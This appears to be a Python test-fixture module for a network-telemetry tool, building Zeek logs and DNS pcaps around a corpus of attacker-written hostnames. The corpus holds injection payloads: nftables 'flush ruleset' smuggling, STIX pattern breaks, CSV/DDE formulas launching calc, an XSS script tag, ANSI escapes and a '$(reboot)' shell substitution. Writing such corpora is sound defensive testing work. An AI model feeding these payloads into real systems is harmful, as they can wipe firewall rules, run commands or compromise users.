"""Hostile input for the security tests: attacker-written names and the telemetry that carries them.

Everything abfluss reads is written by whoever controls the traffic: DNS names and answers, SNI,
HTTP Host, log fields. ``NAMES`` collects the strings that have broken (or could break) a place
where abfluss writes data into something that is interpreted — firewall rules, STIX patterns,
CSV cells, terminal markup, HTML — so every such place can be tested against the same corpus.
The builders write that data as real sensors would (Zeek JSON logs; DNS in a pcap through dpkt),
so the tests run the whole pipeline from ingest on.
"""

from __future__ import annotations

import json
import socket
from datetime import datetime, timezone
from pathlib import Path

import dpkt

#: Names (SNI, Host, DNS query names and answers) an attacker can put into the telemetry.
NAMES: dict[str, str] = {
    "space": "files drop.example",
    "nft_scope_id": "2001:db8::66%x\nflush ruleset\n#",
    "nft_newline": "evil.example\nflush ruleset",
    "nft_brace": "evil.example } ; flush ruleset ; table inet x {",
    "nft_semicolon": "1.2.3.4; flush ruleset",
    "address_as_text": "8.8.8.8",
    "stix_quote": "evil.example'] OR [ipv4-addr:value = '0.0.0.0/0",
    "stix_backslash": "evil.example\\'",
    "rich_close": "[/]",
    "rich_link": "[link=https://evil.example/x]update.example[/link]",
    "rich_style": "[bold red on white]urgent[/] [/bold]",
    "rich_emoji": ":skull: :warning:",
    "csv_formula": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "csv_plus": "+1+cmd|' /C calc'!A0",
    "csv_minus": "-2+3",
    "csv_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv_tab": "\t=1+1",
    "csv_cr": "\r=1+1",
    "ansi": "\x1b[2J\x1b[31mred\x1b[0m.example",
    "nul": "evil\x00.example",
    "line_separator": "evil\u2028.example\u0085x",
    "html": "<script>alert(1)</script>.example",
    "shell": "$(reboot)`id`.example",
    "long": "a" * 300 + ".example",
    "unicode": "bücher.example",
    "dots": "..",
}

T0 = datetime(2026, 3, 2, 9, 0, tzinfo=timezone.utc)


def _ts(seconds: float) -> float:
    return T0.timestamp() + seconds


def zeek_json(path: Path, log: str, rows: list[dict]) -> Path:
    """A Zeek JSON log (one object per line, ``_path`` set): JSON carries any string exactly."""
    with open(path, "w", encoding="utf-8") as f:
        for r in rows:
            f.write(json.dumps({"_path": log, **r}) + "\n")
    return path


def conn(seconds: float, uid: str, orig: str, resp: str, resp_p: int = 443, out: int = 1000,
         back: int = 1000, service: str | None = "ssl", duration: float = 10.0) -> dict:
    """A Zeek conn.log row of a finished TCP connection."""
    return {"ts": _ts(seconds), "uid": uid, "id.orig_h": orig, "id.orig_p": 40000 + len(uid),
            "id.resp_h": resp, "id.resp_p": resp_p, "proto": "tcp", "service": service,
            "duration": duration, "orig_bytes": out, "resp_bytes": back, "conn_state": "SF",
            "missed_bytes": 0, "history": "ShADadFf", "orig_pkts": max(1, out // 1400),
            "orig_ip_bytes": out + 40 * max(1, out // 1400), "resp_pkts": max(1, back // 1400),
            "resp_ip_bytes": back + 40 * max(1, back // 1400)}


def ssl(seconds: float, uid: str, orig: str, resp: str, server_name: str) -> dict:
    """A Zeek ssl.log row: the connection's SNI."""
    return {"ts": _ts(seconds), "uid": uid, "id.orig_h": orig, "id.orig_p": 40000 + len(uid),
            "id.resp_h": resp, "id.resp_p": 443, "version": "TLSv13", "server_name": server_name,
            "established": True}


def dns(seconds: float, uid: str, client: str, server: str, query: str, answers: list[str],
        qtype: str = "A") -> dict:
    """A Zeek dns.log row (Zeek records no type per answer)."""
    return {"ts": _ts(seconds), "uid": uid, "id.orig_h": client, "id.orig_p": 50000 + len(uid),
            "id.resp_h": server, "id.resp_p": 53, "proto": "udp", "trans_id": 1000 + len(uid),
            "query": query, "qtype_name": qtype, "rcode_name": "NOERROR", "answers": answers,
            "TTLs": [60.0] * len(answers)}


# -- DNS on the wire -------------------------------------------------------------------------

def _rr(name: str, rtype: int, rdata: bytes) -> dpkt.dns.DNS.RR:
    rr = dpkt.dns.DNS.RR(name=name, type=rtype, cls=dpkt.dns.DNS_IN, ttl=60)
    rr.rdata = rdata
    return rr


def _txt(text: bytes) -> bytes:
    return b"".join(bytes([len(text[i:i + 255])]) + text[i:i + 255] for i in range(0, len(text), 255))


def _name(name: str) -> bytes:
    return b"".join(bytes([len(p)]) + p for p in (x.encode() for x in name.rstrip(".").split("."))) + b"\0"


def dns_pcap(path: Path, exchanges: list[tuple[str, str, list[tuple[str, str]]]],
             client: str = "10.0.0.5", server: str = "10.0.0.53") -> Path:
    """A pcap of DNS queries and their responses. ``exchanges``: (query name, qtype, answers)
    where each answer is (type, value): ``A``/``AAAA`` an address, ``CNAME`` a name, ``TXT`` any
    text (newlines and ``%`` included)."""
    types = {"A": dpkt.dns.DNS_A, "AAAA": dpkt.dns.DNS_AAAA, "CNAME": dpkt.dns.DNS_CNAME, "TXT": dpkt.dns.DNS_TXT}
    with open(path, "wb") as f:
        w = dpkt.pcap.Writer(f, linktype=dpkt.pcap.DLT_EN10MB)
        for i, (qname, qtype, answers) in enumerate(exchanges):
            q = dpkt.dns.DNS(id=0x1000 + i, qr=dpkt.dns.DNS_Q, opcode=dpkt.dns.DNS_QUERY, rd=1,
                             qd=[dpkt.dns.DNS.Q(name=qname, type=types[qtype], cls=dpkt.dns.DNS_IN)])
            an = []
            for kind, value in answers:
                if kind == "A":
                    rdata = socket.inet_aton(value)
                elif kind == "AAAA":
                    rdata = socket.inet_pton(socket.AF_INET6, value)
                elif kind == "CNAME":
                    rdata = _name(value)
                else:
                    rdata = _txt(value.encode("latin-1"))
                an.append(_rr(qname, types[kind], rdata))
            r = dpkt.dns.DNS(id=q.id, qr=dpkt.dns.DNS_R, opcode=dpkt.dns.DNS_QUERY, rd=1, ra=1,
                             rcode=dpkt.dns.DNS_RCODE_NOERR, qd=q.qd, an=an)
            for t, src, dst, sport, dport, msg in ((2 * i, client, server, 53000 + i, 53, q),
                                                   (2 * i + 0.01, server, client, 53, 53000 + i, r)):
                udp = dpkt.udp.UDP(sport=sport, dport=dport, data=bytes(msg))
                udp.ulen = len(udp)
                ip = dpkt.ip.IP(src=socket.inet_aton(src), dst=socket.inet_aton(dst), p=dpkt.ip.IP_PROTO_UDP,
                                data=udp, ttl=64)
                ip.len = len(ip)
                eth = dpkt.ethernet.Ethernet(src=b"\x02\0\0\0\0\1", dst=b"\x02\0\0\0\0\2",
                                             type=dpkt.ethernet.ETH_TYPE_IP, data=ip)
                w.writepkt(bytes(eth), ts=_ts(t))
    return path
